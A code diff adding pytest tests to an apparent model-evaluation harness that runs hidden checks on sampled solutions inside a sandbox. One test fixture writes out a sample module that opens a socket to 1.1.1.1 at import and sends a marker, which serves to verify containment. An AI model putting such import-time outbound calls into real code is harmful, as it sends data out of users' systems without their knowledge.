@@ -297,3 +297,42 @@ def test_a_broken_bwrap_is_reported_with_its_reason(tmp_path, monkeypatch):
     finally:
         monkeypatch.undo()
         sandbox_problem.cache_clear()
+
+
+@needs_sandbox
+def test_run_checks_records_pass_and_contained_failure_per_sample(tmp_path):
+    """`suite run --run-checks`: the reference solution passes its hidden checks; a sample whose module
+    tries to phone home at import is contained and recorded as a failed check, beside its verdict."""
+    from tasks import render_solution
+    from tests.conftest import run_cli, write_replay
+
+    secure = next(s.file for s in TASK.spec.solutions if s.label == "secure")
+    good = "Here it is.\n\n" + render_solution(TASK, secure, control_context())
+    marker = f"suite-check-{uuid.uuid4().hex}"
+    bad = (f"Here it is.\n\n{TARGET}\n```python\nimport socket\n"
+           f"socket.create_connection(('1.1.1.1', 80), timeout=2).sendall(b'{marker}')\n```\n")
+    replay = write_replay(tmp_path / "r.jsonl", [(TASK.id, good), (TASK.id, bad)])
+    out = tmp_path / "out"
+    proc = run_cli("run", "--preset", "control", "--model", str(replay), "--tasks", TASK.id, "--samples", "2",
+                   "--out", str(out), "--run-checks")
+    assert proc.returncode == 0, proc.stderr
+    summary = json.loads((out / "summary.json").read_text())
+    assert summary["samples"]["checks_run"] == 2 and summary["samples"]["checks_passed"] == 1
+    assert "hidden checks: 1 of 2 edited samples pass" in proc.stdout
+    rows = [json.loads(line) for line in (out / "samples.jsonl").read_text().splitlines()]
+    by_pass = {r["checks"]["passed"]: r for r in rows}
+    assert "passed" in by_pass[True]["checks"]["summary"]
+    assert "error" in by_pass[False]["checks"]["summary"] or "failed" in by_pass[False]["checks"]["summary"]
+
+
+def test_run_checks_refuses_without_a_sandbox_before_generating(tmp_path):
+    from tests.conftest import run_cli, write_replay
+
+    replay = write_replay(tmp_path / "r.jsonl", [(TASK.id, "nothing")])
+    out = tmp_path / "out"
+    env = {"SUITE_BWRAP": str(tmp_path / "no-such-bwrap")}
+    proc = run_cli("run", "--preset", "control", "--model", str(replay), "--tasks", TASK.id, "--samples", "1",
+                   "--out", str(out), "--run-checks", env=env)
+    assert proc.returncode == 2
+    assert "--unsafe-run-checks" in proc.stderr and "Traceback" not in proc.stderr
+    assert not (out / "samples.jsonl").exists()
